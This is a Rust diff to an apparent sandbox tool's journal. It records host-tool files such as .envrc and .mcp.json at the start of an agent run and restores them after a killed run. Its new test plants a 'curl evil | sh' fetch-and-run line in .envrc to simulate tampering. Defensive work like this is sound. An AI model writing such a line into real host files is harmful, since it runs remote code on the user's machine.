@@ -34,6 +34,7 @@ use crate::aftercare::gitguard::WorktreeConfigEnabled;
 use crate::aftercare::gitguard::{
     self, GitDirAtStart, GitDirReport, NestedAtStart, NestedReport, Tampering,
 };
+use crate::aftercare::hostfiles::{self, HostFilesAtStart, HostFilesReport};
 
 /// The journal's directory inside the private directory.
 pub const DIR: &str = "journal";
@@ -56,6 +57,9 @@ struct Record {
     /// The agent profile's `audit: git` paths (absent in an older record).
     #[serde(default)]
     agent_repos: Vec<PathBuf>,
+    /// The files host tools run, as they were (absent in an older record).
+    #[serde(default)]
+    hostfiles: Option<HostFilesAtStart>,
 }
 
 /// What a command's after-run checks compare with ([`begin`]).
@@ -69,6 +73,8 @@ pub struct Checks<'a> {
     pub nested: Option<&'a NestedAtStart>,
     /// The git repositories of the agent's state audited after the run.
     pub agent_repos: &'a [PathBuf],
+    /// The files host tools run, as they were at the start.
+    pub hostfiles: Option<&'a HostFilesAtStart>,
     /// Whether the command has a git store quarantine (none for `host`).
     pub quarantined: bool,
 }
@@ -182,6 +188,7 @@ pub struct Recovered {
     pub worktree_config_enabled: Option<WorktreeConfigEnabled>,
     pub git_dir: GitDirReport,
     pub nested_git: NestedReport,
+    pub host_files: HostFilesReport,
     /// The run had a git store quarantine, whose last writes were lost with it.
     pub quarantined: bool,
 }
@@ -229,6 +236,12 @@ impl Recovered {
                 .into_iter()
                 .map(|w| format!("killed run: {w}")),
         );
+        lines.extend(
+            self.host_files
+                .warnings()
+                .into_iter()
+                .map(|w| format!("killed run: {w}")),
+        );
         lines
     }
 }
@@ -258,6 +271,7 @@ pub fn begin(dir: &Path, worktree: &Path, checks: Checks<'_>) -> std::io::Result
         gitdir: checks.gitdir.cloned(),
         nested: checks.nested.cloned(),
         agent_repos: checks.agent_repos.to_vec(),
+        hostfiles: checks.hostfiles.cloned(),
     };
     write_locked(dir, &key(worktree), &record).map(Entry)
 }
@@ -301,6 +315,11 @@ fn check(record: &Record) -> Recovered {
         .as_ref()
         .map(gitguard::audit_nested)
         .unwrap_or_default();
+    let host_files = record
+        .hostfiles
+        .as_ref()
+        .map(hostfiles::audit_host_files)
+        .unwrap_or_default();
     Recovered {
         pid: record.pid,
         started: record.started,
@@ -308,6 +327,7 @@ fn check(record: &Record) -> Recovered {
         worktree_config_enabled,
         git_dir,
         nested_git,
+        host_files,
         quarantined: record.quarantined,
     }
 }
@@ -357,6 +377,7 @@ mod tests {
             gitdir: None,
             nested: None,
             agent_repos: &agent_repos,
+            hostfiles: None,
             quarantined: true,
         };
         let live = begin(&journal, &worktree, checks).unwrap();
@@ -392,5 +413,53 @@ mod tests {
         drop(live);
         assert!(!path.exists(), "a finished command's record is removed");
         assert!(recover(&journal, &worktree).is_empty());
+    }
+
+    /// A killed run's `.envrc` and `.mcp.json` (files host tools run) are undone at the next
+    /// start from the record: the bytes it kept go back, the new file is set aside.
+    #[test]
+    fn a_killed_runs_host_files_are_put_back_from_the_record() {
+        let tmp = tempfile::tempdir().unwrap();
+        let journal = tmp.path().join("journal");
+        std::fs::create_dir_all(tmp.path().join("task")).unwrap();
+        let worktree = tmp.path().join("task").canonicalize().unwrap();
+        std::fs::write(worktree.join(".envrc"), "use flake\n").unwrap();
+        let policy = sandbox_policy::build(sandbox_policy::PolicyRequest {
+            workdir: worktree.clone(),
+            system_read: Some(vec![]),
+            devices: Some(vec![]),
+            ..Default::default()
+        })
+        .unwrap();
+        let start = HostFilesAtStart::scan(&policy).unwrap();
+        let pointer = tmp.path().join("dot-git");
+        std::fs::write(&pointer, "gitdir: /the/original\n").unwrap();
+        let layout = layout(tmp.path(), &pointer);
+        let checks = Checks {
+            layout: &layout,
+            gitdir: None,
+            nested: None,
+            hostfiles: Some(&start),
+            quarantined: false,
+        };
+        let live = begin(&journal, &worktree, checks).unwrap();
+        let dead = journal.join(format!("{}-1-0.json", key(&worktree)));
+        std::fs::copy(&live.0.path, &dead).unwrap();
+        std::fs::write(worktree.join(".envrc"), "curl evil | sh\n").unwrap();
+        std::fs::write(worktree.join(".mcp.json"), "{}").unwrap();
+
+        let recovered = recover(&journal, &worktree);
+        assert_eq!(recovered.len(), 1, "{recovered:?}");
+        assert_eq!(recovered[0].host_files.changes.len(), 2, "{recovered:?}");
+        assert_eq!(
+            std::fs::read_to_string(worktree.join(".envrc")).unwrap(),
+            "use flake\n"
+        );
+        assert!(!worktree.join(".mcp.json").exists());
+        let lines = recovered[0].lines().join("\n");
+        assert!(
+            lines.contains("killed run: host files: the run created"),
+            "{lines}"
+        );
     }
 }
